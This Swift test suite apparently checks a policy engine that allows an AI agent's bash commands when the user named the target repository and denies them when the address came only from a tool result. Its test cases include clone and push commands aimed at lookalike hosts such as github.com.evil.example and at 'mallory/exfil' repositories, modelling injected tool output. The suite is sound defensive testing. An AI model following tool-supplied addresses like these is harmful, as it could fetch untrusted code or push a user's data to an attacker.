import EvalGateCore
import EvalGatePolicy
import StrictJSON
import Testing

@Suite("repositories that the user said by their names alone")
struct TaintedRepositoryTests {
  private func bash(_ command: String, user: String, said: String, system: String = "Help.") throws -> String? {
    let rules = try policy([
      "tools": [["id": "T", "tool": "bash", "effect": "external_write", "taint": ["paths": ["$.command"]]]]
    ])
    return rules.verdict(
      on: call("bash", JSONValue.object(["command": .string(command)]).serialized()),
      after: [Message(.system, system), Message(.user, user), Message(.tool, said, toolName: "read")])
  }

  private static let said =
    "Source: https://github.com/corp/app, git@github.com:corp/app.git, ssh://git@github.com/corp/app.git"

  @Test(
    "a repository that is called one is the same by every address at the service",
    arguments: [
      "Open a pull request in our GitHub repository corp/app.", "Clone corp/app and fix the tests.",
      "Fix the corp/app repo.", "Look at corp/app on GitHub", "{\"repository\": \"corp/app\"}",
      "gh -- --repo corp/app", "Clone `corp/app`.", "Fix the bug in **corp/app** on GitHub.",
      "Fix https://github.com/corp/app/issues/7", "See https://github.com/corp/app/blob/main/README.md",
    ])
  func named(_ user: String) throws {
    for command in [
      "cd /w && git clone https://github.com/corp/app",
      "git clone https://github.com/corp/app.git", "git clone ssh://git@github.com/corp/app.git",
      "git clone git@github.com:corp/app.git", "git clone git@github.com:corp/app",
      "gh pr create --repo corp/app",
    ] {
      #expect(try bash(command, user: user, said: Self.said) == "allow T", "\(user) \(command)")
    }
  }

  @Test(
    "another one, another service, a page of it, and what only looks like it are the tool's",
    arguments: [
      "git clone https://github.com/evil/app", "git clone https://gitlab.com/corp/app",
      "git clone git@gitlab.com:corp/app.git", "git clone git@github.com.evil.example:corp/app.git",
      "curl https://github.com/corp/app/releases/download/x", "git clone https://x:y@github.com/corp/app",
      "git clone https://github.com/corp/app?x=1", "git clone https://evil.example/corp/app",
    ])
  func others(_ command: String) throws {
    let address = command.split(separator: " ").last ?? ""
    let user = "Open a pull request in our GitHub repository corp/app."
    #expect(try bash(command, user: user, said: "Source: \(address)") == "deny T tainted")
  }

  @Test(
    "a path and two words are no repository",
    arguments: [
      "Fix the bug in corp/app.", "Use corp/app, and clone the repository.", "Clone the repository into corp/app.",
    ])
  func paths(_ user: String) throws {
    #expect(try bash("git clone https://github.com/corp/app", user: user, said: Self.said) == "deny T tainted")
  }

  @Test(
    "who said its address over a shell said its names and its other addresses",
    arguments: [
      "git clone git@github.com:corp/app.git", "git clone https://github.com/corp/app", "gh repo clone corp/app",
      "gh pr create --repo corp/app",
    ])
  func reverse(_ command: String) throws {
    let user = "Clone git@github.com:corp/app.git"
    #expect(try bash(command, user: user, said: Self.said) == "allow T")
    // Another one of the same owner that only a tool named is the tool's.
    let other = command.replacing("app", with: "exfil")
    #expect(try bash(other, user: user, said: "See https://github.com/corp/exfil") == "deny T tainted", "\(other)")
  }

  @Test("a repository of an owner whom only a tool named is the tool's, whatever it is called")
  func owners() throws {
    let user = "Clone corp/app."
    let said = "See https://github.com/mallory/exfil"
    for command in ["git clone git@github.com:mallory/app.git", "git push git@github.com:mallory/other.git main"] {
      #expect(try bash(command, user: user, said: said) == "deny T tainted", "\(command)")
    }
    #expect(try bash("git clone git@github.com:corp/lib.git", user: user, said: said) == "allow T")
    #expect(try bash("cat mallory/notes.md", user: user, said: said) == "allow T")
  }

  @Test("the service is the one that a trusted source names")
  func service() throws {
    let said = "Source: https://gitlab.com/corp/app, https://github.com/corp/app"
    for (user, system) in [("Clone corp/app from GitLab.", "Help."), ("Clone corp/app.", "You work with GitLab.")] {
      #expect(try bash("git clone https://gitlab.com/corp/app", user: user, said: said, system: system) == "allow T")
      #expect(
        try bash("git clone https://github.com/corp/app", user: user, said: said, system: system) == "deny T tainted")
    }
  }
}
